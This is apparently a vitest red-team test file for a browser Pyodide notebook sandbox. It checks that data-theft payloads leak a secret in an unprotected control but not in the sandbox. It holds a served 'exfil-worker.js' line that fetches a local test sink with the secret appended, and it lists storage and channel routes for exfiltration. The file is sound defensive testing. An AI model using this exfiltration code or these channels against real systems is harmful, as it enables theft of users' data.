/**
 * The red-team suite. Every payload in payloads.ts runs three times, each time as a cell of one
 * notebook over a table holding SECRET:
 *
 *  1. in the real sandbox (all layers) — the sink and the app's storage must see nothing;
 *  2. in the sandbox with the tripwires off (opaque origin + CSP only, `js` is the real global) —
 *     still nothing: the walls hold without the tripwires;
 *  3. in an unprotected control: the same worker code as a plain same-origin worker with no CSP —
 *     every payload marked `control: true` must get through, so 1 and 2 cannot pass vacuously.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { randomBytes } from 'node:crypto';
import type { Browser, Page } from 'playwright-core';
import workerSource from '../../../src/lib/sandbox/worker.ts?iife';
import { launchBrowser, openApp, startSink, startStaticServer, type Sink, type StaticServer } from '../harness.ts';
import { PAYLOADS } from './payloads.ts';

const SECRET = `S3CRET${randomBytes(6).toString('hex')}`;
let browser: Browser;
let server: StaticServer;
let sink: Sink;

function indent(code: string): string {
  return code
    .split('\n')
    .map((l) => `    ${l}`)
    .join('\n');
}

function notebook(sinkUrl: string, appOrigin: string, payloads = PAYLOADS): string {
  const prelude = [
    `SINK = ${JSON.stringify(sinkUrl)}`,
    `WS = ${JSON.stringify(sinkUrl.replace('http:', 'ws:'))}`,
    `APP = ${JSON.stringify(appOrigin)}`,
    'import airlock',
    'SECRET = airlock.table("secret").column("value")[0]',
    'print("prelude ok", len(SECRET))',
  ].join('\n');
  const cells = [
    prelude,
    ...payloads.map(
      (p) =>
        `try:\n${indent(p.code)}\n    print("RESULT ${p.id}: no error")\nexcept BaseException as e:\n    print("RESULT ${p.id}: " + type(e).__name__ + ": " + str(e)[:160])`,
    ),
  ];
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: cells.map((source) => ({ cell_type: 'code', source, metadata: {}, outputs: [], execution_count: null })),
  });
}

/** Installs the app-origin listeners that catch storage- and channel-based exfiltration. */
async function armCollectors(page: Page): Promise<void> {
  await page.evaluate(() => {
    const w = window as unknown as { __bc: string[]; __bcChannel: BroadcastChannel };
    w.__bc = [];
    w.__bcChannel = new BroadcastChannel('airlock-exfil');
    w.__bcChannel.onmessage = (e) => w.__bc.push(String(e.data));
  });
}

/** Everything the app's origin can see that mentions the secret. */
async function collect(page: Page, secret: string): Promise<string[]> {
  return page.evaluate(async (secret) => {
    const found: string[] = [];
    for (const d of await indexedDB.databases()) if (d.name?.includes(secret)) found.push(`indexeddb:${d.name}`);
    for (const k of await caches.keys()) if (k.includes(secret)) found.push(`cache-api:${k}`);
    const root = (await navigator.storage.getDirectory()) as unknown as { keys(): AsyncIterable<string> };
    for await (const name of root.keys()) if (name.includes(secret)) found.push(`opfs:${name}`);
    const locks = await navigator.locks.query();
    for (const l of [...(locks.held ?? []), ...(locks.pending ?? [])])
      if (l.name?.includes(secret)) found.push(`web-locks:${l.name}`);
    for (const m of (window as unknown as { __bc: string[] }).__bc)
      if (m.includes(secret)) found.push(`broadcastchannel:${m}`);
    return found;
  }, secret);
}

function resultLines(logs: Array<{ text: string }>): Map<string, string> {
  const m = new Map<string, string>();
  for (const l of logs)
    for (const line of l.text.split('\n')) {
      const r = /^RESULT ([\w-]+): (.*)$/.exec(line);
      if (r) m.set(r[1]!, r[2]!);
    }
  return m;
}

const secretTable = (secret: string) => ({
  name: 'secret',
  rowCount: 1,
  columns: [{ name: 'value', type: 'string', values: [0], dictionary: [secret] }],
});

async function runInSandbox(tripwires: boolean, payloads: typeof PAYLOADS, snapshot = false) {
  const { page, context } = await openApp(browser, server);
  // The warm-start path: Python restored from the memory image instead of initialised.
  if (snapshot) expect(await page.evaluate(() => (window as any).airlock.prewarm())).toBe(true);
  await armCollectors(page);
  const nb = notebook(sink.url, server.origin, payloads);
  const report = await page.evaluate(
    async ({ nb, table, tripwires }) => {
      const t = { ...table, columns: table.columns.map((c) => ({ ...c, values: new Int32Array(c.values) })) };
      const r = await (window as any).airlock.run({
        notebook: nb,
        tables: [t],
        tripwires,
        limits: { timeLimitMs: 120_000 },
      });
      return {
        status: r.status,
        message: r.message,
        logs: r.logs,
        tripwires: r.tripwires,
        outputs: r.outputs.map((o: any) => o.path),
      };
    },
    { nb, table: secretTable(SECRET), tripwires },
  );
  await page.waitForTimeout(1500); // let stragglers (nested workers, beacons) arrive
  const found = await collect(page, SECRET);
  await context.close();
  return { report, found };
}

async function runInControl() {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${server.appUrl}control.html`);
  await armCollectors(page);
  const nb = notebook(sink.url, server.origin);
  const logs = await page.evaluate(
    async ({ nb, workerSource, table, version }) => {
      const files = {
        pyodideMjs: 'pyodide.mjs',
        pyodideAsmMjs: 'pyodide.asm.mjs',
        pyodideAsmWasm: 'pyodide.asm.wasm',
        pythonStdlibZip: 'python_stdlib.zip',
        pyodideLockJson: 'pyodide-lock.json',
      };
      const assets: Record<string, ArrayBuffer> = {};
      for (const [k, f] of Object.entries(files))
        assets[k] = await (await fetch(`pyodide/${version}/${f}`)).arrayBuffer();
      const worker = new Worker(URL.createObjectURL(new Blob([workerSource], { type: 'text/javascript' })));
      const { port1, port2 } = new MessageChannel();
      worker.postMessage({ port: port2 }, [port2]);
      const logs: Array<{ text: string }> = [];
      port1.addEventListener('message', (ev) => {
        const e = ev.data?.['airlock:event'];
        if (e?.type === 'log') logs.push({ text: e.text });
      });
      port1.start();
      // The comlink wire protocol, spoken directly: this page is the unprotected control, not the app.
      const call = (method: string, ...args: unknown[]) =>
        new Promise<unknown>((resolve, reject) => {
          const id = Math.random().toString(36).slice(2);
          const l = (ev: MessageEvent) => {
            if (ev.data?.id !== id) return;
            port1.removeEventListener('message', l);
            if (ev.data.type === 'HANDLER') reject(new Error(JSON.stringify(ev.data.value).slice(0, 500)));
            else resolve(ev.data.value);
          };
          port1.addEventListener('message', l);
          port1.postMessage({
            id,
            type: 'APPLY',
            path: [method],
            argumentList: args.map((value) => ({ type: 'RAW', value })),
          });
        });
      await call('boot', assets, { tripwires: false });
      const t = { ...table, columns: table.columns.map((c) => ({ ...c, values: new Int32Array(c.values) })) };
      await call('mountTables', [t]);
      const cells = JSON.parse(nb).cells as Array<{ source: string }>;
      for (let i = 0; i < cells.length; i++) await call('runCell', i, cells[i]!.source);
      return logs;
    },
    {
      nb,
      workerSource,
      table: secretTable(SECRET),
      version: (await import('pyodide/package.json', { with: { type: 'json' } })).default.version,
    },
  );
  await page.waitForTimeout(1500);
  const found = await collect(page, SECRET);
  await context.close();
  return { logs, found };
}

beforeAll(async () => {
  browser = await launchBrowser();
  server = await startStaticServer();
  sink = await startSink();
  server.routes.set('/exfil-worker.js', {
    type: 'text/javascript',
    body: `fetch(${JSON.stringify(`${sink.url}/worker-url?id=worker-url&s=`)} + new URLSearchParams(location.search).get('s'))`,
  });
  server.routes.set('/some/sub/path/control.html', {
    type: 'text/html',
    body: '<!doctype html><meta charset="utf-8"><title>unprotected control</title>',
  });
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await sink?.close();
});

describe('red team', () => {
  test('there are at least 40 payloads, each with a unique id', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
    expect(new Set(PAYLOADS.map((p) => p.id)).size).toBe(PAYLOADS.length);
  });

  test('the unprotected control leaks: every payload marked `control` reaches the sink or the origin', async () => {
    sink.hits.length = 0;
    const { logs, found } = await runInControl();
    const results = resultLines(logs);
    const evidence = [...sink.hits.map((h) => h.data), ...found];
    const hit = (p: (typeof PAYLOADS)[number]) =>
      p.evidence === 'udp'
        ? sink.hits.some((h) => h.kind === 'udp')
        : p.evidence === 'ws-root'
          ? // Emscripten's socket layer opens a WebSocket to "/" and carries no id; at least one such
            // handshake must arrive (the three socket payloads do not always each get their own).
            sink.hits.some((h) => h.data === 'UPGRADE /')
          : evidence.some((e) => e.includes(`id=${p.id}`) || e.includes(`exfil-${p.id}-`));
    const missed = PAYLOADS.filter((p) => p.control && !hit(p));
    const report = PAYLOADS.map(
      (p) => `${p.control ? 'C' : ' '} ${p.id}: ${results.get(p.id) ?? '(no result line)'}`,
    ).join('\n');
    expect(
      missed.map((p) => p.id),
      `control did not leak for these payloads:\n${report}`,
    ).toEqual([]);
    expect(sink.hits.every((h) => h.data.includes(SECRET) || h.kind === 'tcp' || !h.data.includes('id='))).toBe(true);
  });

  for (const [tripwires, snapshot] of [
    [true, false],
    [false, false],
    [true, true],
  ] as const) {
    const label =
      (tripwires ? 'with every layer' : 'with tripwires off (walls only)') +
      (snapshot ? ', booted from the start-up snapshot' : '');
    test(`the sandbox ${label} leaks nothing`, async () => {
      sink.hits.length = 0;
      const main = PAYLOADS.filter((p) => !p.isolated);
      const { report, found } = await runInSandbox(tripwires, main, snapshot);
      const results = resultLines(report.logs);
      const summary = main.map((p) => `${p.id}: ${results.get(p.id) ?? '(no result line)'}`).join('\n');
      expect(report.status, `${report.message}\n${summary}`).toBe('ok');
      // Every payload actually ran (its cell printed a result line).
      expect(main.filter((p) => !results.has(p.id)).map((p) => p.id)).toEqual([]);
      expect(sink.hits, summary).toEqual([]);
      expect(found).toEqual([]);
      if (tripwires) {
        const names = new Set(report.tripwires.map((t: { name: string }) => t.name));
        // The tripwires saw the attempts: at least the main network entry points.
        for (const n of ['js.fetch', 'js.XMLHttpRequest', 'js.WebSocket', 'js.Worker'])
          expect(names, [...names].join(', ')).toContain(n);
      }
    });

    for (const p of PAYLOADS.filter((q) => q.isolated && !snapshot)) {
      test(`the sandbox ${label} leaks nothing through ${p.id} (run alone: it stops the runtime)`, async () => {
        sink.hits.length = 0;
        const { report, found } = await runInSandbox(tripwires, [p]);
        expect(['ok', 'failed']).toContain(report.status);
        expect(report.logs.some((l: { text: string }) => l.text.startsWith('prelude ok'))).toBe(true);
        expect(sink.hits).toEqual([]);
        expect(found).toEqual([]);
      });
    }
  }
});
